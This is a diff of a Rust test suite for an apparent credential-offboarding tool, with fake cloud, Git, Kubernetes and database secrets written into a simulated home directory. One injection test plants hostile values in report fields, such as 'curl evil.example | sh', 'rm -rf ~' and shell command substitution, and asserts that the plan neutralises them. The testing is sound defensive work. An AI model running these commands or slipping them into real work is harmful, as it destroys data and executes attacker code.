@@ -16,12 +16,12 @@ fn twelve_tools(machine: &Machine) {
         ("~/.aws/credentials", "[default]\naws_access_key_id = AKIAQ5ZK3M7WVX2B4N6P\naws_secret_access_key = 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\n".to_owned()),
         ("~/.config/gh/hosts.yml", format!("github.com:\n    user: octo\n    oauth_token: {}\n    git_protocol: https\n", secret("gho_"))),
         ("~/.kube/config", format!("apiVersion: v1\nkind: Config\nclusters: [{{name: c, cluster: {{server: \"https://k.corp.example\"}}}}]\nusers: [{{name: dana, user: {{token: {}}}}}]\ncontexts: [{{name: x, context: {{cluster: c, user: dana}}}}]\ncurrent-context: x\n", secret("t"))),
-        ("~/.docker/config.json", "{\"auths\":{\"registry.corp.example\":{\"auth\":\"ZGFuYTpaazh2UTJtWHc1bkI3Y1QxeVI0cEw5c0Q=\"}}}".to_owned()),
+        ("~/.docker/config.json", "{\"auths\":{\"registry.corp.example\":{\"auth\":\"ZGFuYTpNazh2UTJtWHc1bkI3Y1QxeVI0cEw5c00=\"}}}".to_owned()),
         ("~/.npmrc", format!("//registry.corp.example/:_authToken={}\n", secret("npm_"))),
         ("~/.vault-token", GOOD.to_owned()),
         ("~/.netrc", "machine api.corp.example login dana password Zk8vQ2mXw5nB7cT1yR4pL9sD\n".to_owned()),
-        ("~/.git-credentials", "https://dana:Zk8vQ2mXw5nB7cT1yR4pL9sD@git.corp.example\n".to_owned()),
-        ("~/.pgpass", "db.corp.example:5432:shop:dana:Zk8vQ2mXw5nB7cT1yR4pL9sD\n".to_owned()),
+        ("~/.git-credentials", "https://dana:Gk8vQ2mXw5nB7cT1yR4pL9sG@git.corp.example\n".to_owned()),
+        ("~/.pgpass", "db.corp.example:5432:shop:dana:Pk8vQ2mXw5nB7cT1yR4pL9sP\n".to_owned()),
         ("~/.cache/huggingface/token", secret("hf_").chars().take(37).collect()),
         ("~/.terraform.d/credentials.tfrc.json", format!("{{\"credentials\":{{\"app.terraform.io\":{{\"token\":\"Zk8vQ2mXw5nB7c.atlasv1.{}\"}}}}}}", "Zk8vQ2mXw5nB7cT1yR4pL9sDqJ3mH6gF0aE2Zk8vQ2mXw5nB7cT1yR4pL9sDqJ3mH6g")),
         ("~/.config/netlify/config.json", format!("{{\"userId\":\"u\",\"users\":{{\"u\":{{\"id\":\"u\",\"email\":\"dana@corp.example\",\"auth\":{{\"token\":\"{}\"}}}}}}}}", secret("nfp_"))),
@@ -70,7 +70,7 @@ fn twelve_tools_are_ended_in_the_order_that_works() {
         ("logout", "GitHub CLI", "gh auth logout --hostname github.com --user octo"),
         ("logout", "kubectl", "kubectl config delete-user dana"),
         ("logout", "Docker", "docker logout registry.corp.example"),
-        ("remains", "HashiCorp Vault", "End the shells that are open"),
+        ("remains", "", "End the shells that are open"),
         ("remains", "HashiCorp Vault", "rm -- "),
         ("remains", "Netlify CLI", "leaves it in config.json"),
         ("remains", "kubectl", "cluster and context"),
@@ -78,7 +78,8 @@ fn twelve_tools_are_ended_in_the_order_that_works() {
         let phase = plan["phases"].as_array().unwrap().iter().find(|it| it["phase"] == phase);
         let steps = phase.unwrap()["steps"].as_array().unwrap();
         let said = steps.iter().any(|step| {
-            step["tool"] == tool && step["text"].as_str().unwrap().contains(says)
+            (tool.is_empty() || step["tool"] == tool)
+                && step["text"].as_str().unwrap().contains(says)
         });
         assert!(said, "{tool}: {says}\n{steps:#?}");
     }
@@ -101,7 +102,10 @@ fn plans_are_as_published() {
     let told = of(plan(&machine, &["--format", "json"]).as_bytes());
     assert!(jsonschema::is_valid(&schema("offboard"), &told));
     let mut verify = machine.program();
-    let output = verify.args(["offboard", "--verify", "before.json", "before.json", "--format", "json"]).output().unwrap();
+    let output = verify
+        .args(["offboard", "--verify", "before.json", "before.json", "--format", "json"])
+        .output()
+        .unwrap();
     assert!(jsonschema::is_valid(&schema("offboard-verify"), &of(&output.stdout)));
 }
 
@@ -122,12 +126,14 @@ fn grants_are_chosen_by_person_host_or_finding() {
         tools
     };
     assert_eq!(tools(&["--person", "octo"]), ["GitHub CLI"]);
-    assert_eq!(tools(&["--host", "git.corp.example"]), ["Git"]);
+    assert_eq!(tools(&["--host", "git.corp.example"]), ["git credential-store"]);
     assert_eq!(tools(&["--grant", &id]), ["HashiCorp Vault"]);
     assert_eq!(tools(&["--person", "dana", "--host", "db.corp.example"]), ["PostgreSQL"]);
     assert!(tools(&["--person", "user"]).len() >= 12, "everything in the home of a user");
-    for args in [["--person", "nobody"], ["--host", "nowhere.example"], ["--grant", "ffffffffffff"]] {
-        let output = machine.program().args(["offboard", "before.json"]).args(args).output().unwrap();
+    for args in [["--person", "nobody"], ["--host", "nowhere.example"], ["--grant", "ffffffffffff"]]
+    {
+        let output =
+            machine.program().args(["offboard", "before.json"]).args(args).output().unwrap();
         assert_eq!(output.status.code(), Some(2), "a slip of the pen is no clean machine");
     }
 }
@@ -139,7 +145,14 @@ fn a_hostile_report_smuggles_nothing_in() {
     let mut report = scanned(&machine, "before.json");
     let evil = "x\n$(touch pwned) `touch pwned`; touch pwned #<img src=x>](https://evil.example)\u{202e}\r\u{1b}[2J";
     for finding in report["findings"].as_array_mut().unwrap() {
-        for (place, name) in [("identity", "account"), ("identity", "host"), ("identity", "name"), ("location", "path"), ("location", "key"), ("custody", "held_by")] {
+        for (place, name) in [
+            ("identity", "account"),
+            ("identity", "host"),
+            ("identity", "name"),
+            ("location", "path"),
+            ("location", "key"),
+            ("custody", "held_by"),
+        ] {
             finding[place][name] = json!(evil);
         }
         finding["end"] = json!({"logout": "rm -rf ~", "revoke": "curl evil.example | sh", "verify": evil, "better": evil});
@@ -161,7 +174,11 @@ fn a_hostile_report_smuggles_nothing_in() {
         assert!(!command.contains("evil"), "{command}");
     }
     let markdown = plan(&machine, &[]);
-    assert!(!markdown.contains("rm -rf") && !markdown.contains('\u{1b}') && !markdown.contains('\u{202e}'));
+    assert!(
+        !markdown.contains("rm -rf")
+            && !markdown.contains('\u{1b}')
+            && !markdown.contains('\u{202e}')
+    );
     for line in markdown.lines() {
         // Outside code there is no element and no link.
         let outside: String = line.split('`').step_by(2).collect();
@@ -179,9 +196,14 @@ fn what_is_still_there_is_told() {
     remove(".netrc");
     remove(".npmrc");
     machine.write("~/.pgpass", "db.corp.example:5432:shop:dana:Another1nB7cT1yR4pL9sDqJ3\n");
-    std::fs::rename(machine.home().join(".git-credentials"), machine.home().join(".config/git-old")).unwrap();
+    std::fs::rename(
+        machine.home().join(".git-credentials"),
+        machine.home().join(".config/git-old"),
+    )
+    .unwrap();
     std::fs::create_dir_all(machine.root.join("mnt/home/other")).unwrap();
-    std::fs::rename(machine.home().join(".docker"), machine.root.join("mnt/home/other/.docker")).unwrap();
+    std::fs::rename(machine.home().join(".docker"), machine.root.join("mnt/home/other/.docker"))
+        .unwrap();
     machine.write("~/.config/gh/hosts.yml", "github.com: [");
     let key = machine.root.join("key").to_string_lossy().into_owned();
     let report = machine.scan(&["--fingerprint-key-file", &key, "--fingerprint-passwords"]);
@@ -212,7 +234,11 @@ fn what_is_still_there_is_told() {
         assert_eq!(outcome(place), expected, "{place}");
     }
     assert_eq!(verify(&["--host", "api.corp.example"]).status.code(), Some(0));
-    let older = machine.program().args(["offboard", "--verify", "after.json", "before.json"]).output().unwrap();
+    let older = machine
+        .program()
+        .args(["offboard", "--verify", "after.json", "before.json"])
+        .output()
+        .unwrap();
     assert_eq!(older.status.code(), Some(2), "the second report is the older one");
 }
 
@@ -220,22 +246,59 @@ fn what_is_still_there_is_told() {
 fn a_replaced_and_a_moved_secret_are_recognised() {
     let machine = Machine::new();
     machine.write("~/.vault-token", GOOD);
-    machine.write("~/.npmrc", "//registry.corp.example/:_authToken=npm_Zk8vQ2mXw5nB7cT1yR4pL9sDqJ3mH6gF0aE2\n");
+    machine.write(
+        "~/.npmrc",
+        "//registry.corp.example/:_authToken=npm_Zk8vQ2mXw5nB7cT1yR4pL9sDqJ3mH6gF0aE2\n",
+    );
     scanned(&machine, "before.json");
-    machine.write("~/.npmrc", "//registry.corp.example/:_authToken=npm_Ab8vQ2mXw5nB7cT1yR4pL9sDqJ3mH6gF0aE2\n");
+    machine.write(
+        "~/.npmrc",
+        "//registry.corp.example/:_authToken=npm_Ab8vQ2mXw5nB7cT1yR4pL9sDqJ3mH6gF0aE2\n",
+    );
     std::fs::create_dir_all(machine.root.join("mnt/home/other")).unwrap();
-    std::fs::rename(machine.home().join(".vault-token"), machine.root.join("mnt/home/other/.vault-token")).unwrap();
+    std::fs::rename(
+        machine.home().join(".vault-token"),
+        machine.root.join("mnt/home/other/.vault-token"),
+    )
+    .unwrap();
     scanned(&machine, "after.json");
-    let output = machine.program().args(["offboard", "--verify", "before.json", "after.json"]).output().unwrap();
+    let output = machine
+        .program()
+        .args(["offboard", "--verify", "before.json", "after.json"])
+        .output()
+        .unwrap();
     let text = String::from_utf8(output.stdout).unwrap();
     assert!(text.contains("1 with another secret, 1 moved"), "{text}");
+}
+
+#[test]
+fn a_password_that_serves_twice_is_changed_twice() {
+    let machine = Machine::new();
+    machine.write(
+        "~/.netrc",
+        "machine api.corp.example login dana password Zk8vQ2mXw5nB7cT1yR4pL9sD\n",
+    );
+    machine.write("~/.pgpass", "db.corp.example:5432:shop:dana:Zk8vQ2mXw5nB7cT1yR4pL9sD\n");
+    scanned(&machine, "before.json");
+    let told = plan(&machine, &[]);
+    assert!(told.starts_with("# Offboarding") && told.contains("1 grant to end"), "{told}");
+    for says in [
+        "`dana` at `api.corp.example`",
+        "db.corp.example",
+        "delete the entry of `api.corp.example`",
+        "delete the line",
+    ] {
+        assert!(told.contains(says), "{says}\n{told}");
+    }
 }
 
 /// The commands of the documentation, run as they stand there.
 #[cfg(unix)]
 #[test]
 fn the_documented_commands_run() {
-    let docs = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/offboarding.md")).unwrap();
+    let docs =
+        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/offboarding.md"))
+            .unwrap();
     let mut script = String::from("set -u\n");
     for block in docs.split("```sh\n").skip(1) {
         script.push_str(block.split("```").next().unwrap());
@@ -251,7 +314,8 @@ fn the_documented_commands_run() {
         .current_dir(&machine.root)
         .output()
         .unwrap();
-    let (out, err) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
+    let (out, err) =
+        (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
     assert!(err.is_empty(), "{err}");
     assert!(out.contains("# After the offboarding"), "{out}");
     assert!(machine.root.join("plan.md").exists() && machine.root.join("plan.sh").exists());
